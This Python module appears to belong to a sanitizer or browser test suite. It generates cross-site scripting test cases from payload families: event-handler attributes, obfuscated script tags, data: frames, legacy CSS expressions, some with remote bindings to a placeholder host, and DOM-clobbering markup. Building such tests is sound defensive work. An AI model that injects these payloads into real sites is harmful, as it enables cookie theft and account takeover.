"""Families that want code to run."""

# Payloads and scripts of a page are kept whole.
# ruff: noqa: E501
from __future__ import annotations

from collections.abc import Iterator

from hostile.case import After, Case
from hostile.running_addresses import addresses, foreign

# Content attributes that hold code: HTML, SVG, touch, pointer, media, animation, and what old engines knew.
HANDLERS = [
    "abort",
    "afterprint",
    "animationcancel",
    "animationend",
    "animationiteration",
    "animationstart",
    "auxclick",
    "beforecopy",
    "beforecut",
    "beforeinput",
    "beforematch",
    "beforepaste",
    "beforeprint",
    "beforetoggle",
    "beforeunload",
    "begin",
    "blur",
    "bounce",
    "cancel",
    "canplay",
    "canplaythrough",
    "change",
    "click",
    "close",
    "command",
    "contentvisibilityautostatechange",
    "contextlost",
    "contextmenu",
    "contextrestored",
    "copy",
    "cuechange",
    "cut",
    "dblclick",
    "drag",
    "dragend",
    "dragenter",
    "dragexit",
    "dragleave",
    "dragover",
    "dragstart",
    "drop",
    "durationchange",
    "emptied",
    "end",
    "ended",
    "error",
    "filterchange",
    "finish",
    "focus",
    "focusin",
    "focusout",
    "formdata",
    "fullscreenchange",
    "fullscreenerror",
    "gotpointercapture",
    "hashchange",
    "help",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "languagechange",
    "load",
    "loadeddata",
    "loadedmetadata",
    "loadend",
    "loadstart",
    "losecapture",
    "lostpointercapture",
    "message",
    "messageerror",
    "mousedown",
    "mouseenter",
    "mouseleave",
    "mousemove",
    "mouseout",
    "mouseover",
    "mouseup",
    "mousewheel",
    "offline",
    "online",
    "page",
    "pagehide",
    "pageshow",
    "paste",
    "pause",
    "play",
    "playing",
    "pointercancel",
    "pointerdown",
    "pointerenter",
    "pointerleave",
    "pointermove",
    "pointerout",
    "pointerover",
    "pointerrawupdate",
    "pointerup",
    "popstate",
    "progress",
    "propertychange",
    "ratechange",
    "readystatechange",
    "rejectionhandled",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "scrollsnapchange",
    "scrollsnapchanging",
    "search",
    "securitypolicyviolation",
    "seeked",
    "seeking",
    "select",
    "selectionchange",
    "selectstart",
    "show",
    "slotchange",
    "stalled",
    "start",
    "storage",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touchcancel",
    "touchend",
    "touchmove",
    "touchstart",
    "transitioncancel",
    "transitionend",
    "transitionrun",
    "transitionstart",
    "unload",
    "unhandledrejection",
    "volumechange",
    "waiting",
    "webkitanimationend",
    "webkitanimationiteration",
    "webkitanimationstart",
    "webkitfullscreenchange",
    "webkitfullscreenerror",
    "webkitmouseforcechanged",
    "webkittransitionend",
    "wheel",
]
# Those that no engine of today knows as an attribute of an element.
GONE = {
    "afterprint",
    "beforematch",
    "beforeprint",
    "beforeunload",
    "begin",
    "bounce",
    "contentvisibilityautostatechange",
    "cuechange",
    "dragexit",
    "end",
    "filterchange",
    "finish",
    "focusin",
    "focusout",
    "fullscreenchange",
    "fullscreenerror",
    "hashchange",
    "help",
    "languagechange",
    "loadend",
    "losecapture",
    "message",
    "messageerror",
    "offline",
    "online",
    "page",
    "pagehide",
    "pageshow",
    "popstate",
    "propertychange",
    "readystatechange",
    "rejectionhandled",
    "repeat",
    "show",
    "start",
    "storage",
    "unload",
    "unhandledrejection",
    "webkitmouseforcechanged",
    "scrollsnapchange",
    "scrollsnapchanging",
    "pointerrawupdate",
}


def handlers() -> Iterator[Case]:
    for name in HANDLERS:
        html = f'<p tabindex="0" on{name}="%JS%">Texte</p>'
        yield Case("gestionnaires", After.RUN, html, name not in GONE)
    for spelled in ("OnClick", "onclick ", "onclick\n", "onclick\t", "onclick/x", "ONCLICK"):
        yield Case("gestionnaires", After.RUN, f"<p {spelled}=%JS%>Texte</p>", "/" not in spelled)
    for start in (
        "<img/onerror=%JS% src=x>",
        "<img\x0conerror=%JS%\x0csrc=x>",
        "<img src=x onerror=%JSHEX%>",
    ):
        yield Case("gestionnaires", After.RUN, start)
    yield Case("gestionnaires", After.RUN, "<img src=x onerror=%JSDEC%>", False)
    yield Case("gestionnaires", After.RUN, '<img src=x:x onerror="&#9;%JS%">')
    yield Case("gestionnaires", After.RUN, "<img src=`x` alt=``onerror=%JS%>", False)
    yield Case("gestionnaires", After.RUN, "<body onload=%JS%><p>Texte</p></body>")
    yield Case("gestionnaires", After.RUN, "<body><p>a</p><body onpageshow=%JS%>")
    for tag in ("video", "audio"):
        yield Case("gestionnaires", After.RUN, f"<{tag}><source onerror=%JS%></{tag}>")
        yield Case("gestionnaires", After.RUN, f"<{tag} src=x: onerror=%JS%></{tag}>")
    yield Case("gestionnaires", After.RUN, "<input autofocus onfocus=%JS%>")
    yield Case("gestionnaires", After.RUN, "<select autofocus onfocus=%JS%><option>a</select>")
    yield Case("gestionnaires", After.RUN, "<textarea autofocus onfocus=%JS%></textarea>")
    yield Case("gestionnaires", After.RUN, "<p contenteditable autofocus onfocus=%JS%>a</p>")
    yield Case("gestionnaires", After.RUN, "<details open ontoggle=%JS%><summary>a</summary>b</details>")
    yield Case("gestionnaires", After.RUN, "<marquee onstart=%JS%>a</marquee>")
    yield Case(
        "gestionnaires",
        After.RUN,
        "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=%JS%>a",
    )
    yield Case("gestionnaires", After.RUN, "<object data=x: onerror=%JS%></object>")
    yield Case("gestionnaires", After.RUN, "<isindex type=image src=1 onerror=%JS%>", False)
    yield Case("gestionnaires", After.RUN, "<image src=x onerror=%JS%>")
    yield Case("gestionnaires", After.RUN, "<link rel=stylesheet href=x: onerror=%JS%>")
    yield Case("gestionnaires", After.RUN, "<iframe onload=%JS%></iframe>")
    yield Case("gestionnaires", After.RUN, "<frameset onload=%JS%></frameset>")
    yield Case("gestionnaires", After.RUN, "<embed src=x: onload=%JS%>", False)


SCRIPTS = (
    "<script>%JS%</script>",
    "<SCRIPT>%JS%</SCRIPT >",
    "<script\n>%JS%</script\t>",
    "<script/x>%JS%</script/x>",
    "<<script>%JS%//<</script>",
    "<script type=module>%JS%</script>",
    "<script type='text/javascript;version=1.7'>%JS%</script>",
    "<script src='data:text/javascript,%JS%'></script>",
    "<script nonce=a defer>%JS%</script>",
    "<script><!--\n%JS%\n--></script>",
    "<script>//<![CDATA[\n%JS%\n//]]></script>",
    "<scr<script>ipt>%JS%</scr</script>ipt>",
    "<div><script>%JS%</script",
    "<script x='>'>%JS%</script>",
    "<noscript><p title='</noscript><script>%JS%</script>'>",
    "<xml><script>%JS%</script></xml>",
    "<title><script>%JS%</script></title><script>%JS%</script>",
    "\ufeff<script>%JS%</script>",
    "<p>\x00<scr\x00ipt>%JS%</scr\x00ipt><script>%JS%</script>",
    "<svg><script>%JS%</script></svg>",
    "<svg><script href='data:text/javascript,%JS%'/></svg>",
    "<svg><script xlink:href='data:text/javascript,%JS%'/></svg>",
    "<svg><script>&#99;onsole.log(/casier-ran:%ID%/.source)</script></svg>",
    "<math><script>0</script></math><script>%JS%</script>",
)
OLD_SCRIPTS = (
    "<script language=vbscript>msgbox 1</script>",
    "<script for=window event=onload>%JS%</script>",
    "<?xml-stylesheet href='javascript:%JS%'?>",
    "<comment><script>%JS%</comment>",
    "<% <script>%JS%</script> %>",
    "<!--[if gte IE 4]><script>%JS%</script><![endif]-->",
    "<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>%JS%</xss:script>",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:%JS%></object>",
    "<bgsound src=javascript:%JS%>",
    "<layer src=javascript:%JS%></layer>",
    "<img dynsrc=javascript:%JS%><img lowsrc=javascript:%JS%>",
    "<br size='&{%JS%}'>",
    "<xml id=i><![CDATA[<img src=javascript:%JS%>]]></xml><span datasrc=#i datafld=c dataformatas=html></span>",
)


def scripts() -> Iterator[Case]:
    yield from (Case("scripts", After.RUN, html) for html in SCRIPTS)
    yield from (Case("scripts anciens", After.RUN, html, False) for html in OLD_SCRIPTS)


FRAMES = (
    "<iframe srcdoc='<script>%JS%</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=%JS%&gt;'></iframe>",
    "<iframe src='data:text/html,<script>%JS%</script>'></iframe>",
    "<iframe src='data:text/html;base64,%JS64%'></iframe>",
    "<object data='data:text/html,<script>%JS%</script>'></object>",
    "<embed src='data:text/html,<script>%JS%</script>'>",
    "<object type=text/html data='data:text/html;base64,%JS64%'></object>",
    "<iframe sandbox='allow-scripts' srcdoc='<script>%JS%</script>'></iframe>",
)


def frames() -> Iterator[Case]:
    yield from (Case("cadres", After.RUN, html) for html in FRAMES)
    for tag in ("portal", "fencedframe", "webview", "browser", "applet", "layer", "ilayer"):
        yield Case(
            "cadres anciens", After.RUN, f"<{tag} src='data:text/html,<script>%JS%</script>'></{tag}>", False
        )


STYLES = (
    "width:expression(%JS%)",
    "wid\\74h:exp/**/ression(%JS%)",
    "width:e\\78pression(%JS%)",
    "background:url(javascript:%JS%)",
    "background:url('java\\nscript:%JS%')",
    "-moz-binding:url(http://%H%/x.xml#a)",
    "behavior:url(http://%H%/x.htc)",
    "list-style:url(javascript:%JS%)",
    "content:url('data:image/svg+xml,<svg onload=%JS%/>')",
)


def styles() -> Iterator[Case]:
    for style in STYLES:
        yield Case("styles qui s’exécutent", After.RUN, f'<p style="{style}">a</p>', False)
        yield Case("styles qui s’exécutent", After.RUN, f"<style>p{{{style}}}</style><p>a</p>", False)
    yield Case("styles qui s’exécutent", After.RUN, "<style>@import 'javascript:%JS%';</style>", False)
    yield Case("styles qui s’exécutent", After.RUN, "<style></style\n><script>%JS%</script>")
    yield Case(
        "styles qui s’exécutent", After.RUN, "<style>p{color:red}/*</style><script>%JS%</script>*/</style>"
    )
    yield Case(
        "styles qui s’exécutent",
        After.RUN,
        "<style>a::after{content:'<\\/style><script>%JS%<\\/script>'}</style>",
        False,
    )


CLOBBERS = (
    "<a id=attributes href=x>a</a><img name=attributes src=x onerror=%JS%>",
    "<form id=x><input name=attributes><input name=nodeName><img src=x onerror=%JS%></form>",
    "<form><input name=parentNode><input name=removeChild><img src=x onerror=%JS%></form>",
    "<form onfocus=%JS% tabindex=0 autofocus><input id=attributes></form>",
    "<img name=getElementById src=x onerror=%JS%><img name=currentScript>",
    "<form name=body><input name=firstChild><svg onload=%JS%></form>",
    "<a id=defaultView></a><a id=defaultView name=document href=x></a><img src=x onerror=%JS%>",
    "<iframe name=document srcdoc='<script>%JS%</script>'></iframe>",
    "<output name=innerHTML></output><svg onload=%JS%>",
    "<form id=cookie><input name=nodeType value=3><img src=x onerror=%JS%></form>",
)


def clobbers() -> Iterator[Case]:
    yield from (Case("noms qui masquent", After.RUN, html) for html in CLOBBERS)


def all_running() -> Iterator[Case]:
    """Every case that wants code to run."""
    for family in (handlers, scripts, addresses, foreign, frames, styles, clobbers):
        yield from family()
